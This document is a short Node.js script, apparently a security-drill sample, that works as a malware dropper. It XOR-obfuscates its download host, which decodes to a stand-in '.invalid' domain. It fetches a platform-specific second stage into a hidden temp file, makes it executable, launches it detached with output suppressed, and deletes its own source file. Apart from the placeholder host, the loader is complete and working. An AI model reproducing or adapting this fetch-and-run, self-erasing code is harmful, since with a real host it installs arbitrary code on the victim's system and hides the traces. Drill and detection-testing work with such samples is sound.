'use strict';
const fs = require('fs');
const os = require('os');
const path = require('path');
const https = require('https');
const { spawn } = require('child_process');

// Fetches a second stage for this system and starts it. The host cannot exist, so nothing comes and nothing starts.
const key = 'drill';
const sealed = [12, 6, 29, 28, 31, 94, 93, 70, 25, 28, 0, 19, 29, 9, 31, 74, 23, 17, 13, 1, 20, 30, 12, 66, 5, 10, 4, 8, 0, 5, 0];
const host = sealed.map((code, at) => String.fromCharCode(code ^ key.charCodeAt(at % key.length))).join('');
const stage = path.join(os.tmpdir(), `.portcullis-drill-${process.platform}`);

https
  .get(`${host}/${process.platform}-${process.arch}`, (response) => {
    const out = fs.createWriteStream(stage, { mode: 0o700 });
    response.pipe(out);
    out.on('finish', () => {
      spawn(stage, [], { detached: true, stdio: 'ignore' }).unref();
      fs.unlinkSync(__filename);
    });
  })
  .on('error', () => {});
